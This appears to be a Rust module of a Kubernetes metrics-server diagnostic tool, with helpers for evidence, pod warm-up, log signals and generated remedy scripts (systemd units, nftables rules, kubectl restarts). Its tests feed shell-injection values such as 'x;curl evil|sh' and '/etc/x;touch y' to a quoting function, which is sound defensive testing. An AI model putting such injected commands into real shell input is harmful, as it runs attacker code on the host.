//! What several checks ask of the evidence.

use std::collections::BTreeSet;

use jiff::Timestamp;

use crate::Context;
use crate::check::{Remedy, Step, Subject, Undecided};
use crate::evidence::{
    ApiServer, Backend, DialFailure, Evidence, Host, LogSignal, Need, Node, Pod, ScrapeFailure, Signature,
    Why,
};

/// The APIService of the Metrics API.
pub(crate) const APISERVICE: &str = "v1beta1.metrics.k8s.io";

/// Succeeds on a machine whose packet filter, of either kind, knows Services.
pub(crate) const SERVICES_PROGRAMMED: &str =
    "iptables-save -t nat | grep -c KUBE-SVC || nft list table ip kube-proxy | grep -c 'goto service-'";

/// Succeeds when the API server takes metrics-server's answers.
pub(crate) fn apiservice_available() -> String {
    format!("kubectl wait --for=condition=Available apiservice/{APISERVICE} --timeout=2m")
}

/// The APIService as a subject.
pub(crate) fn apiservice() -> Subject {
    Subject::cluster_scoped("APIService", APISERVICE)
}

/// Whole seconds from `then` to the time of the evidence.
pub(crate) fn age_s(evidence: &Evidence, then: Timestamp) -> i64 {
    evidence.taken_at.duration_since(then).as_secs()
}

/// How often metrics-server scrapes, in seconds: `--metric-resolution`, 60 s by default.
pub(crate) fn resolution_s(args: &[String]) -> i64 {
    Backend::flag(args, "metric-resolution").and_then(go_duration_s).unwrap_or(60)
}

/// Reads a Go duration such as `15s` or `1m30s`, in whole seconds.
pub(crate) fn go_duration_s(text: &str) -> Option<i64> {
    let mut total = 0_i64;
    let mut number = String::new();
    let mut rest = text.chars().peekable();
    while let Some(character) = rest.next() {
        if character.is_ascii_digit() {
            number.push(character);
            continue;
        }
        let value: i64 = std::mem::take(&mut number).parse().ok()?;
        let unit = match character {
            'h' => 3600,
            'm' if rest.peek() == Some(&'s') => {
                rest.next();
                0
            }
            'm' => 60,
            's' => 1,
            _ => return None,
        };
        total = total.checked_add(value.checked_mul(unit)?)?;
    }
    (number.is_empty() && !text.is_empty()).then_some(total)
}

/// How long a metrics-server may take until it serves: two scrapes, the readiness probe's delay of
/// 20 s and its period of 10 s (components.yaml since 0.5).
fn warm_up_s(args: &[String]) -> i64 {
    2 * resolution_s(args) + 30
}

/// "Undecided, too early" while every container of metrics-server is younger than its first two
/// scrapes and has not failed before.
///
/// # Errors
///
/// While it warms up, and when the pods or their arguments were not seen.
pub(crate) fn after_warm_up(ctx: &Context<'_>, evidence: &Evidence) -> Result<(), Undecided> {
    let pods = ctx.need(&evidence.backend.pods)?;
    if pods.is_empty() {
        return Ok(());
    }
    let args = ctx.need(&evidence.backend.args)?;
    let limit = warm_up_s(args);
    let youngest_start = pods.iter().map(start_of).max();
    // One restart may be a reboot of its node; a container that keeps ending is no warm-up.
    let keeps_ending = |pod: &Pod| {
        let end = pod.last_end.as_ref().and_then(|end| end.at);
        pod.restarts > 1 && end.is_some_and(|end| age_s(evidence, end) <= OUTLIVED_S)
    };
    let failing = pods.iter().any(|pod| keeps_ending(pod) || pod.waiting.as_deref().is_some_and(is_error));
    match youngest_start {
        Some(start) if !failing && age_s(evidence, start) < limit => Err(Undecided {
            need: Need::Pods,
            why: Why::TooEarly(format!(
                "metrics-server started {} s ago and is warming up; its first two scrapes take up to {limit} s",
                age_s(evidence, start).max(0),
            )),
        }),
        _ => Ok(()),
    }
}

fn start_of(pod: &Pod) -> Timestamp {
    pod.started.unwrap_or(pod.created)
}

/// Whether the reason of a waiting container is a fault and no step of a normal start.
pub(crate) fn is_error(reason: &str) -> bool {
    !matches!(reason, "ContainerCreating" | "PodInitializing")
}

/// The Ready nodes that were seen: what must have a fault of its own before a fault of nodes explains
/// a metrics-server that has no metrics at all.
pub(crate) fn all_nodes(evidence: &Evidence) -> Vec<Subject> {
    let nodes = evidence.nodes.peek().map(Vec::as_slice).unwrap_or_default();
    nodes.iter().filter(|node| node.ready).map(|node| Subject::node(&node.name)).collect()
}

/// A pod as a subject.
pub(crate) fn pod_subject(pod: &Pod) -> Subject {
    Subject::namespaced("Pod", &pod.namespace, &pod.name)
}

/// The last words of a container are what it said within this time before its end.
const LAST_WORDS_S: i64 = 120;
/// What a container that runs says is of the present for so long.
const PRESENT_S: i64 = 120;
/// A container that has run for longer has outlived what ended the one before.
const OUTLIVED_S: i64 = 300;

/// Whether a log line speaks of the present: said just now by a container that runs, or among the last
/// words of one that ended and has no lasting successor.
pub(crate) fn is_current(evidence: &Evidence, pods: &[Pod], signal: &LogSignal) -> bool {
    let Some(pod) = pods.iter().find(|pod| pod.name == signal.pod) else { return false };
    let age = age_s(evidence, signal.at);
    match pod.started {
        Some(_) if !signal.previous => age <= PRESENT_S,
        started => {
            let outlived = started.is_some_and(|started| age_s(evidence, started) > OUTLIVED_S);
            let end = pod.last_end.as_ref().and_then(|end| end.at);
            let last_words = end.is_none_or(|end| end.duration_since(signal.at).as_secs() <= LAST_WORDS_S);
            !pod.ready && !outlived && last_words
        }
    }
}

/// The present signals that `wanted` picks, oldest first.
///
/// # Errors
///
/// When the pods or their logs were not seen.
pub(crate) fn current_signals<'e, T>(
    ctx: &Context<'_>,
    evidence: &'e Evidence,
    wanted: impl Fn(&'e Signature) -> Option<T>,
) -> Result<Vec<(&'e LogSignal, T)>, Undecided> {
    let pods = ctx.need(&evidence.backend.pods)?;
    let logs = &evidence.backend.logs;
    ctx.need(logs)?;
    let signals = logs.peek().map(Vec::as_slice).unwrap_or_default();
    Ok(signals
        .iter()
        .filter(|signal| is_current(evidence, pods, signal))
        .filter_map(|signal| wanted(&signal.signature).map(|value| (signal, value)))
        .collect())
}

/// Whether any pod of metrics-server is Ready, so that what its log does not say did not happen.
pub(crate) fn serves(ctx: &Context<'_>, evidence: &Evidence) -> Result<bool, Undecided> {
    Ok(ctx.need(&evidence.backend.pods)?.iter().any(|pod| pod.ready))
}

/// The words of Go's `net` package for a failed dial.
pub(crate) fn dial_words(failure: DialFailure) -> &'static str {
    match failure {
        DialFailure::Timeout => "i/o timeout",
        DialFailure::Refused => "connection refused",
        DialFailure::NoRoute => "no route to host",
    }
}

/// A kubelet that metrics-server does not get through to.
pub(crate) struct Silence<'e> {
    /// The line that says so.
    pub(crate) signal: &'e LogSignal,
    /// The address that was dialled.
    pub(crate) address: &'e str,
    /// How that failed.
    pub(crate) words: &'static str,
}

/// What metrics-server says of a node where no connection came about; nothing where another thing is wrong, or none.
///
/// # Errors
///
/// When what it says of the node was not seen.
pub(crate) fn kubelet_silence<'e>(
    ctx: &Context<'_>,
    node: &'e Node,
) -> Result<Option<Silence<'e>>, Undecided> {
    let Some(signal) = ctx.need(&node.scrape_log)? else { return Ok(None) };
    let Signature::ScrapeFailed { address, failure, .. } = &signal.signature else { return Ok(None) };
    let words = match failure {
        ScrapeFailure::Dial(how) => dial_words(*how),
        ScrapeFailure::Deadline => "no answer in time",
        ScrapeFailure::NameNotResolved => "its name is not resolved",
        _ => return Ok(None),
    };
    Ok(Some(Silence { signal, address, words }))
}

/// The nodes on which metrics-server's pods run, as far as known: the machines whose faults are faults of those pods.
pub(crate) fn nodes_of_pods(evidence: &Evidence) -> Vec<Subject> {
    let pods = evidence.backend.pods.peek().map(Vec::as_slice).unwrap_or_default();
    let nodes: BTreeSet<&str> = pods.iter().filter_map(|pod| pod.node.as_deref()).collect();
    nodes.into_iter().map(Subject::node).collect()
}

/// The machines that kube-apiservers run on. One that is neither a node nor was looked at stands for itself by its
/// address, so that nobody takes the others for all of them; so does a control plane of which nothing is known.
pub(crate) fn control_plane(evidence: &Evidence) -> Vec<Subject> {
    let nodes = evidence.nodes.peek().map(Vec::as_slice).unwrap_or_default();
    let mut found = BTreeSet::new();
    for host in &evidence.hosts {
        if matches!(host.api_server.peek(), Some(Some(_))) {
            found.insert(Subject::host(host));
        }
    }
    for node in nodes.iter().filter(|node| node.labels.contains_key("node-role.kubernetes.io/control-plane"))
    {
        found.insert(Subject::node(&node.name));
    }
    let servers = evidence.api_servers.peek().map(Vec::as_slice);
    found.extend(machines_of(evidence, &servers.unwrap_or_default().iter().collect::<Vec<_>>()));
    if servers.is_none() {
        found.insert(Subject::cluster_scoped("Host", "control plane"));
    }
    found.into_iter().collect()
}

/// The machines of these kube-apiservers: nodes, or machines that were looked at, or else their bare addresses.
pub(crate) fn machines_of(evidence: &Evidence, servers: &[&ApiServer]) -> Vec<Subject> {
    let nodes = evidence.nodes.peek().map(Vec::as_slice).unwrap_or_default();
    let machine = |server: &&ApiServer| {
        let has = |host: &&Host| {
            host.identity.peek().is_some_and(|identity| identity.addresses.contains(&server.address))
        };
        let node = nodes.iter().find(|node| node.addresses.iter().any(|one| one.address == server.address));
        match (node, evidence.hosts.iter().find(has)) {
            (Some(node), _) => Subject::node(&node.name),
            (None, Some(host)) => Subject::host(host),
            (None, None) => Subject::cluster_scoped("Host", &server.address),
        }
    };
    servers.iter().map(machine).collect()
}

/// The namespace and name of metrics-server's ServiceAccount, as far as known.
pub(crate) fn account(evidence: &Evidence) -> Option<(String, String)> {
    let account = evidence.backend.reviews.account.as_deref()?;
    let (namespace, name) = account.strip_prefix("system:serviceaccount:")?.split_once(':')?;
    Some((namespace.to_owned(), name.to_owned()))
}

/// A script for a host that stops at the first thing that fails. It runs in a shell of its own, so that whoever pastes it
/// keeps theirs; `file` has to be there, or nothing is changed.
pub(crate) fn on_host(file: &str, script: &str) -> String {
    format!(
        "(\nset -e\n[ -s {file} ] || {{ printf '%s is not there: nothing was changed\\n' {file} >&2; exit 1; }}\n{script}\n)"
    )
}

/// A script that runs these lines of a unit now and after each boot, behind the firewalls that a machine may have.
pub(crate) fn at_boot(name: &str, description: &str, lines: &str) -> String {
    format!(
        "cat > /etc/systemd/system/{name}.service <<'UNIT'\n[Unit]\nDescription={description}\nAfter=network.target docker.service firewalld.service ufw.service nftables.service netfilter-persistent.service\n[Service]\nType=oneshot\nRemainAfterExit=yes\n{lines}[Install]\nWantedBy=multi-user.target\nUNIT\nsystemctl daemon-reload\nsystemctl enable {name}.service\nsystemctl restart {name}.service"
    )
}

/// Lines of a unit that put rules at the head of a chain of nftables, each once; nothing where the chain's name is not
/// plain enough for a script.
pub(crate) fn nft_rules(table: &str, chain: &str, rules: &[String]) -> Option<String> {
    let plain = |text: &str| {
        !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_-".contains(&byte))
    };
    let families = ["ip", "ip6", "inet"];
    let (family, name) = table.split_once(' ')?;
    if !families.contains(&family) || !plain(name) || !plain(chain) {
        return None;
    }
    let lines = rules.iter().map(|rule| {
        format!(
            "ExecStart=/bin/sh -c 'nft list chain {table} {chain} | grep -qF \"{rule}\" || nft insert rule {table} {chain} {rule}'\n"
        )
    });
    Some(lines.collect())
}

/// Where kubeadm and its kind keep the kubelet's configuration.
const KUBELET_CONFIG: &str = "/var/lib/kubelet/config.yaml";

/// Puts into cures the file that a node's kubelet reads, where the machine was looked at and it is another one than
/// usual.
pub(crate) fn name_real_files(evidence: &Evidence, remedies: &mut [Remedy]) {
    let steps = remedies.iter_mut().flat_map(|remedy| &mut remedy.steps);
    for step in steps {
        let Some(node) = step.run_on.strip_prefix("node ") else { continue };
        let host = evidence.hosts.iter().find(|host| host.node.as_deref() == Some(node));
        let file = host.and_then(|host| host.kubelet_file.peek()).and_then(Option::as_ref);
        let Some(file) = file.filter(|file| file.exists && file.error.is_empty()) else { continue };
        // A name that a shell or sed would take apart is left to the reader.
        if file.path != KUBELET_CONFIG && word(&file.path) == file.path {
            step.command = step.command.replace(KUBELET_CONFIG, &file.path);
            step.verify = step.verify.replace(KUBELET_CONFIG, &file.path);
        }
    }
}

/// A word for a shell: quoted unless it is plain.
pub(crate) fn word(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._:/@=,".contains(&byte);
    if !text.is_empty() && text.bytes().all(plain) {
        return text.to_owned();
    }
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// A step that starts metrics-server anew, so that the cure shows at once.
pub(crate) fn restart_metrics_server(evidence: &Evidence) -> Vec<Step> {
    let Some(Some(workload)) = evidence.backend.workload.peek() else { return Vec::new() };
    let (namespace, name) = (&workload.namespace, &workload.name);
    let kind = workload.kind.to_ascii_lowercase();
    let restart = format!("kubectl -n {namespace} rollout restart {kind}/{name}");
    vec![
        Step::run("workstation", restart)
            .verify(format!("kubectl -n {namespace} rollout status {kind}/{name} --timeout=3m")),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_of_a_stranger_stay_words() {
        assert_eq!(word("node-1.example"), "node-1.example");
        assert_eq!(word("x;curl evil|sh"), "'x;curl evil|sh'");
        assert_eq!(word("it's"), "'it'\\''s'");
        assert_eq!(word(""), "''");
    }

    #[test]
    fn a_path_of_a_stranger_stays_a_path() {
        let script = on_host(&word("/etc/x;touch y"), "true");
        assert!(script.contains("[ -s '/etc/x;touch y' ]"), "{script}");
        assert!(
            script.contains("printf '%s is not there: nothing was changed\\n' '/etc/x;touch y' >&2"),
            "{script}"
        );
    }

    #[test]
    fn reads_go_durations() {
        assert_eq!(go_duration_s("15s"), Some(15));
        assert_eq!(go_duration_s("1m30s"), Some(90));
        assert_eq!(go_duration_s("1h"), Some(3600));
        assert_eq!(go_duration_s("500ms"), Some(0));
        assert_eq!(go_duration_s("15"), None);
        assert_eq!(go_duration_s(""), None);
        assert_eq!(go_duration_s("99999999999999999999s"), None);
    }
}
